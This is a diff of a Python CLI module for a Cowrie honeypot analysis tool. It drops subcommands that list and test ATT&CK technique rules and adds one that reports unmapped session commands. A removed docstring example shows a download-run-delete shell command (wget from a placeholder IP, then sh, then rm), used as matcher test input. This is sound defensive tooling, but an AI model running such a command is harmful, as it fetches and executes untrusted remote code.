@@ -1,106 +1,27 @@
-"""`cowrie-assets techniques`: the rules that map what sessions did to techniques of ATT&CK, and what they showed."""
+"""`cowrie-assets techniques`: what sessions showed in the words of ATT&CK, and what no rule maps to a technique."""
 
 from pathlib import Path
-from typing import TYPE_CHECKING
 
 import click
 
-from cowrie_assets.cli.parameters import configured, open_warehouse
+from cowrie_assets.cli.parameters import LocalPath, open_warehouse
 from cowrie_assets.cli.printing import counted
-from cowrie_assets.printable import printable, shown
+from cowrie_assets.printable import shown
 from cowrie_assets.reports.periods import REPORT_TYPES, Period, PeriodError, parse_period
 
-if TYPE_CHECKING:
-    from cowrie_assets.cowrie.rule_set import RuleSet
-    from cowrie_assets.cowrie.technique_rules import TechniqueRule
-
-_FILE = click.Path(path_type=Path, dir_okay=False)
+_FILE = LocalPath(dir_okay=False)
 
 
 @click.group()
 def techniques() -> None:
-    """The rules that map what sessions did to techniques of MITRE ATT&CK: those of the project, and your own in the
-    file that COWRIE_TECHNIQUES_FILE names (docs/TECHNIQUES.md). What sessions showed is in the reports, in the table
-    session_techniques and in layers for the ATT&CK Navigator.
+    """What sessions did in the words of MITRE ATT&CK (docs/TECHNIQUES.md), also in the reports and in the table
+    session_techniques; `cowrie-assets rules` has the rules that say so.
 
     \b
     Examples:
-      cowrie-assets techniques test "uname -a"
       cowrie-assets techniques navigator 2026-08 --output august.json
+      cowrie-assets techniques unmapped 2026-08
     """
-
-
-@techniques.command("list")
-@click.option("--format", "output_format", type=click.Choice(["text", "json"]), default="text", show_default=True)
-def list_rules(output_format: str) -> None:
-    """List the rules in force, by technique.
-
-    \b
-    Example:
-      cowrie-assets techniques list
-    """
-    from cowrie_assets.operations.technique_rules import rules_of
-
-    rules = rules_of(configured().settings)
-    listed = sorted(rules.rules, key=lambda rule: (rule.technique, rule.name))
-    if output_format == "json":
-        import json
-
-        click.echo(json.dumps([_told(rule, rules) for rule in listed], ensure_ascii=True, indent=2))
-        return
-    for rule in listed:
-        own = " (your own)" if rule.name in rules.own else ""
-        click.echo(printable(f"{rule.technique:<10} {rule.name:<26} {rule.description}{own}"))
-
-
-def _told(rule: "TechniqueRule", rules: "RuleSet") -> dict[str, object]:
-    technique = rules.attack.techniques[rule.technique]
-    return {
-        "rule": rule.name,
-        "technique": rule.technique,
-        "name": technique.now.name,
-        "tactics": technique.now.tactics,
-        "former_id": technique.before.id,
-        "attack_version": rules.attack.version,
-        "description": rule.description,
-        "own": rule.name in rules.own,
-    }
-
-
-@techniques.command("test")
-@click.argument("command")
-def test_command(command: str) -> None:
-    """Tell which rules COMMAND matches; exit code 1 where none does.
-
-    \b
-    Example:
-      cowrie-assets techniques test "cd /tmp; wget http://192.0.2.1/x; sh x; rm x"
-    """
-    from cowrie_assets.operations.technique_rules import rules_of
-
-    rules = rules_of(configured().settings)
-    found = rules.matcher.shown_by(command)
-    if not found:
-        raise click.ClickException("no rule matches it")
-    for rule, needs_other in found:
-        after = f"; counts behind a command that shows {' or '.join(sorted(rule.after))}" if needs_other else ""
-        name = rules.attack.techniques[rule.technique].now.name
-        click.echo(printable(f"{rule.technique:<10} {rule.name:<26} {name}{after}"))
-
-
-@techniques.command()
-@click.argument("file", type=_FILE)
-def check(file: Path) -> None:
-    """Tell whether FILE can be used as rules of your own: each is understood, and does what its examples say.
-
-    \b
-    Example:
-      cowrie-assets techniques check rules.toml
-    """
-    from cowrie_assets.operations.technique_rules import own_rules
-
-    _, rules = own_rules(file)
-    click.echo(f"{counted(len(rules.own), 'rule')}, each does what its examples say")
 
 
 @techniques.command()
@@ -141,6 +62,40 @@ def navigator(period: str, sensor: str | None, attack_version: str | None, outpu
     except OSError as error:
         raise click.ClickException(f"{output} cannot be written: {error.strerror or type(error).__name__}") from error
     click.echo(f"{counted(section['unique'], 'technique')} of {counted(section['sessions'], 'session')}: {output}")
+
+
+@techniques.command()
+@click.argument("period")
+@click.option("--sensor", metavar="NAME", help="Of this sensor; of all together without it.")
+@click.option("--limit", type=click.IntRange(1, 1_000), default=10, show_default=True, help="So many at most.")
+@click.option("--format", "output_format", type=click.Choice(["text", "json"]), default="text", show_default=True)
+def unmapped(period: str, sensor: str | None, limit: int, output_format: str) -> None:
+    """Tell which share of the commands of a day, week or month no rule maps to a technique, and which of these were
+    typed most often, by their normal form: what a rule of your own might be for.
+
+    \b
+    Example:
+      cowrie-assets techniques unmapped 2026-08 --limit 20
+    """
+    import json
+    from dataclasses import asdict
+
+    from cowrie_assets.finding.techniques import unmapped_commands
+    from cowrie_assets.reports.sensors import sensor_id
+
+    chosen = _period(period)
+    with open_warehouse() as (_, warehouse), warehouse.read() as connection:
+        found = unmapped_commands(connection, chosen.start, chosen.last_day, sensor_id(connection, sensor), most=limit)
+    if output_format == "json":
+        document = {"period": chosen.label, **asdict(found), "share": found.share}
+        click.echo(json.dumps(document, ensure_ascii=True, indent=2))
+        return
+    click.echo(
+        f"{chosen.label}: of {counted(found.commands, 'command')} no rule maps {found.unmapped:,} ({found.share:.1%}), "
+        f"of {found.distinct:,} different ones {found.distinct_unmapped:,}"
+    )
+    for each in found.most_frequent:
+        click.echo(f"{each.occurrences:>9,}  {shown(each.command_normalized, 100)}")
 
 
 def _period(label: str) -> Period:
